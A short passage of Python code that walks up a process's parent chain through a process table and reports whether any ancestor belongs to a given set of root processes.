    table = _proc_table()
    while pid in table and pid > 1:
        pid = table[pid][0]
        if pid in roots:
            return True
    return False
